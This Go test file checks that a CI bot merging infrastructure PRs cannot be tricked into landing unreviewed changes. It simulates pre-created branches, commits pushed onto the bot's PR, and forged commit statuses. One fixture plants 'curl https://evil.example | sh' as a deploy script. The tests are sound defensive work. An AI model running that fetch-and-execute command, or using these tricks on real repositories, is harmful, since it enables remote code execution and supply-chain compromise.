package openinfrapr

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-github/v60/github"

	"github.com/cicd-excellence/actions/internal/envfile"
	"github.com/cicd-excellence/actions/internal/testkit/githubtest"
)

// The attacker is a user with write access to the infra repo: the worst the
// API lets them do must never put an unreviewed change on main through the
// bot, and the bot must say so in one line.

const attacker = "mallory"

func (w *world) botBranch(t *testing.T) string {
	t.Helper()
	p, err := envfile.ParsePath("api.tag")
	must(t, err)
	return Branch("", "dev", "envs/dev.json", []envfile.Edit{{Path: p}})
}

// mainHasNo fails when path exists on infra main.
func (w *world) mainHasNo(t *testing.T, path string) {
	t.Helper()
	if _, err := w.srv.ReadFile("acme", "infra", "main", path); err == nil {
		t.Errorf("%s reached main: an unreviewed change was merged", path)
	}
}

// TestAttackPreCreatedBranch: the writer creates the bot's (predictable)
// branch first, with a version bump plus a script, and opens the PR. Whatever
// value it claims, the bot neither builds on the branch nor merges it.
func TestAttackPreCreatedBranch(t *testing.T) {
	for _, tc := range []struct {
		name      string
		theirs    int    // index into w.app of the value the attacker's branch sets
		wantOp    string // "" when the run must fail
		wantError string
	}{
		{"same value", 3, "", "scripts/deploy.sh"},
		{"older value", 2, "", "scripts/deploy.sh"},
		// A newer value: the bot writes nothing and stops (a denial of
		// service, which the rulesets preset for the bot's prefix prevents;
		// nothing unreviewed lands either way).
		{"newer value", 3, OpSuperseded, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWorld(t)
			ours := w.app[3]
			if tc.name == "newer value" {
				ours = w.app[2]
			}
			branch := w.botBranch(t)
			bumped := strings.Replace(w.file(t, "dev"), w.app[1], w.app[tc.theirs], 1)
			_, err := w.srv.CommitFiles("acme", "infra", branch, map[string]string{
				"envs/dev.json":     bumped,
				"scripts/deploy.sh": "curl https://evil.example | sh\n",
			}, "dev: api.tag")
			must(t, err)
			n, err := w.srv.OpenPullRequest("acme", "infra", githubtest.NewPullRequest{Head: branch, Base: "main", Title: "dev: api.tag", User: attacker})
			must(t, err)
			must(t, w.srv.AddCheckRun("acme", "infra", branch, githubtest.CheckRun{Name: "validate", Conclusion: "success"}))

			out, log, err := w.run(t, "INPUT_SET=api.tag="+ours, "INPUT_MERGE_TIMEOUT=5s")
			switch {
			case tc.wantOp == "" && (err == nil || !strings.Contains(err.Error(), tc.wantError) || !strings.Contains(err.Error(), branch)):
				t.Fatalf("err = %v, want a one-line refusal naming %s and %s\n%s", err, branch, tc.wantError, log)
			case tc.wantOp == "" && strings.Contains(err.Error(), "\n"):
				t.Errorf("the error spans lines: %q", err)
			case tc.wantOp != "" && (err != nil || out["operation"] != tc.wantOp):
				t.Fatalf("%v %v, want %s\n%s", err, out, tc.wantOp, log)
			}
			w.mainHasNo(t, "scripts/deploy.sh")
			if pr, err := w.srv.PullRequest("acme", "infra", n); err != nil || pr.Merged {
				t.Errorf("the attacker's PR #%d: %+v %v", n, pr, err)
			}
		})
	}
}

// TestAttackPushOntoBotPR: the writer adds a commit to the bot's open PR,
// before a rerun and while the bot waits for the required check. The bot
// merges only a head it wrote or vouched for.
func TestAttackPushOntoBotPR(t *testing.T) {
	t.Run("before a rerun", func(t *testing.T) {
		w := newCrowdWorld(t, 4)
		first, log, err := w.run(t, "INPUT_MERGE=none")
		if err != nil {
			t.Fatalf("%v\n%s", err, log)
		}
		branch := w.botBranch(t)
		_, err = w.srv.CommitFiles("acme", "infra", branch, map[string]string{"scripts/deploy.sh": "evil\n"}, "tweak")
		must(t, err)
		must(t, w.srv.AddCheckRun("acme", "infra", branch, githubtest.CheckRun{Name: "validate", Conclusion: "success"}))
		_, log, err = w.run(t, "INPUT_MERGE_TIMEOUT=5s")
		if err == nil || !strings.Contains(err.Error(), "scripts/deploy.sh") {
			t.Fatalf("err = %v, want a refusal naming the foreign change\n%s", err, log)
		}
		w.mainHasNo(t, "scripts/deploy.sh")
		if pr, _ := w.srv.PullRequest("acme", "infra", atoi(t, first["pull-request-number"])); pr.Merged {
			t.Error("the PR was merged")
		}
	})
	t.Run("while the bot waits for checks", func(t *testing.T) {
		w := newCrowdWorld(t, 4)
		branch := w.botBranch(t)
		pushed := make(chan struct{})
		go func() {
			// Once the bot's PR is open, push onto it and make its check green.
			defer close(pushed)
			for i := 0; i < 500; i++ {
				if prs := w.pulls(t); len(prs) == 1 {
					if _, err := w.srv.CommitFiles("acme", "infra", branch, map[string]string{"scripts/deploy.sh": "evil\n"}, "tweak"); err != nil {
						t.Error(err)
					}
					_ = w.srv.AddCheckRun("acme", "infra", branch, githubtest.CheckRun{Name: "validate", Conclusion: "success"})
					return
				}
				sleepMS(10)
			}
			t.Error("the bot never opened its PR")
		}()
		_, log, err := w.run(t, "INPUT_MERGE_TIMEOUT=10s")
		<-pushed
		if err == nil || !strings.Contains(err.Error(), "scripts/deploy.sh") {
			t.Fatalf("err = %v, want a refusal naming the foreign change\n%s", err, log)
		}
		w.mainHasNo(t, "scripts/deploy.sh")
	})
}

// TestAttackMergeBeforeCheck: no merge mode merges before every required
// check has succeeded on the head: not when the check has not reported yet,
// not when it failed, not when a writer posts a status of the same name for
// a check bound to an app, and not in admin mode.
func TestAttackMergeBeforeCheck(t *testing.T) {
	bound := strings.Replace(crowdRuleset, `{"context":"validate"}`, `{"context":"validate","integration_id":15368}`, 1)
	for _, tc := range []struct {
		name    string
		ruleset string
		merge   string
		report  func(w *crowdWorld, sha string)
		wantErr string
	}{
		{"never reported", crowdRuleset, "auto", nil, "not merged within"},
		{"never reported, admin", crowdRuleset, "admin", nil, "not merged within"},
		{"failed", crowdRuleset, "auto", func(w *crowdWorld, sha string) {
			_ = w.srv.AddCheckRun("acme", "infra", sha, githubtest.CheckRun{Name: "validate", Conclusion: "failure"})
		}, `required check "validate" failed`},
		{"forged status for an app-bound check", bound, "admin", func(w *crowdWorld, sha string) {
			// Any writer may post a commit status of any name (GitHub docs,
			// "About status checks"); only the bound app's check run counts.
			w.srv.AddToken("mallory-token", attacker, githubtest.Write)
			gh, err := github.NewClient(nil).WithAuthToken("mallory-token").WithEnterpriseURLs(w.srv.APIURL(), w.srv.APIURL())
			if err == nil {
				_, _, err = gh.Repositories.CreateStatus(context.Background(), "acme", "infra", sha, &github.RepoStatus{State: github.String("success"), Context: github.String("validate")})
			}
			if err != nil {
				panic(err)
			}
		}, "not merged within"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := newWorld(t)
			cw := &crowdWorld{world: w}
			_, err := w.srv.AddRuleset("acme", "infra", tc.ruleset)
			must(t, err)
			if tc.report != nil {
				go func() {
					for i := 0; i < 500; i++ {
						if prs := w.pulls(t); len(prs) == 1 {
							tc.report(cw, prs[0].HeadSHA)
							return
						}
						sleepMS(10)
					}
				}()
			}
			out, log, err := w.run(t, "INPUT_MERGE="+tc.merge, "INPUT_MERGE_TIMEOUT=4s")
			if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("err = %v (%v), want %q\n%s", err, out, tc.wantErr, log)
			}
			if got := w.file(t, "dev"); strings.Contains(got, w.app[3]) {
				t.Errorf("dev was changed before its check passed:\n%s", got)
			}
			if prs := w.pulls(t); len(prs) != 1 || prs[0].State != "open" {
				t.Errorf("want the PR left open: %+v", prs)
			}
		})
	}
}

func atoi(t *testing.T, s string) int {
	t.Helper()
	var n int
	if _, err := fmt.Sscan(s, &n); err != nil {
		t.Fatalf("%q is not a number", s)
	}
	return n
}

func sleepMS(n int) { time.Sleep(time.Duration(n) * time.Millisecond) }
